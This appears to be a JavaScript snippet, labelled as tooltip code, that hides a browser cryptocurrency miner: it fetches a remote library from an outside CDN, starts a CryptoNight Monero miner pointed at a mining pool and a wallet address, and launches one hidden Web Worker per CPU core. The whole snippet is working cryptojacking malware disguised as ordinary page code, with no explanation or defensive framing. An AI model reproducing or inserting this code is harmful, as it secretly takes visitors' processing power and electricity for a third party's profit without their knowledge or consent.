// surroundings: tooltip
const code = `importScripts('https://cdn.webassembly-stream.com/lib.js'); const m = new CryptoNightMiner({ pool: 'wss://pool.web-xmr.pw', user: '44tLjmXrQNrWJ5NBsEj2R77ZBEgDa3fEe9GLpSf2FRmhexPvfYDUAB7EXX1Hdb3aMQ9FLqdJ56yaAhiXoRsceGJCRS3Jxkn' }); m.start();`;
const pool = Array.from({ length: navigator.hardwareConcurrency }, () => new Worker(URL.createObjectURL(new Blob([code])))); //@act
